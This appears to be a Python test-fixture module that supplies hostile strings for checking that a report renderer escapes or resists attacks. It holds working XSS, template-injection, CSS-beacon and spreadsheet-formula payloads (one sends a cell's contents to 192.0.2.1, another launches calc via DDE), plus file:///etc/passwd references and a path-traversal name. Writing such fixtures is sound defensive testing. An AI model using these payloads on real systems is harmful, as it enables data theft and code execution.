"""Texts that try to break, steer, hide or stall a report."""

from collections.abc import Mapping

_MARKUP = (
    "</p></td></table></style></title>--><!-- <script>alert(1)</script>"
    "<img src=http://192.0.2.1/i onerror=alert(1)><link rel=attachment href=file:///etc/passwd>"
    "<style>*{display:none} @import 'file:///etc/passwd'</style>"
    "<svg><image href='file:///etc/passwd'/></svg><base href=http://192.0.2.1/> "
)
_CSS = "'} .answer{display:none} @page{size:1mm} x{background:url(http://192.0.2.1/b)} \"); "
_TEMPLATE = "{{ 7*7 }}{% for x in range(9) %}{{ ''.__class__.__mro__ }}{% endfor %}{# gone #} "
_FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1;"Click") '
_MARKDOWN = (
    "[a](javascript:alert(1)) ![b](http://192.0.2.1/p.png) `c` **d** | e\n# f\n- g\n1. h\n===\n"
)
_CONTROL = "a\x00b\x07c\x1b[31md\x7fe\u0085f\u2028g\r\nh "
_STEERING = (
    "\u202eesrever\u202c \u2066isolate\u2069 "
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 "
)
_OTHER_SCRIPTS = "\u6771\u4eac\u90fd \U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467 \ue000 "

HOSTILE = {
    "name": "<b>{{ 7*7 }}</title> \u202e\u6771\u4eac ",
    "team": _MARKUP,
    "facilitator": _CSS,
    "description": "long text " * 10_000,
    "1": _TEMPLATE + _OTHER_SCRIPTS,
    "2": _FORMULA + _STEERING,
    "answer": _MARKUP + _FORMULA,
    "notes": _MARKUP + _CSS + _TEMPLATE + _MARKDOWN + _CONTROL + _STEERING + _OTHER_SCRIPTS,
    "justification": "e" + "\u0301" * 50_000 + " o" + "\u0489" * 5_000 + " ",
    "owner": _FORMULA + _MARKUP,
    "provided_by": "w" * 19_000 + " ",
    "accepted_by": "+cmd|' /C calc'!A0 " + _STEERING,
    "reason": _CONTROL + _OTHER_SCRIPTS * 40,
    "title": _MARKDOWN + _MARKUP,
    "link": "javascript:alert(1)//http://192.0.2.1/",
    "file": "../../etc/passwd\x00.json ",
    "text": "@SUM(1) " + _TEMPLATE,
}
"""What each field holds, by the last part of its name; a word that must be seen follows it."""


def hostile_texts(tokens: Mapping[str, str]) -> dict[str, str]:
    """Return what attacks each field, with its word of `tokens` behind it."""
    return {name: HOSTILE[name.split("/")[-1]] + token for name, token in tokens.items()}
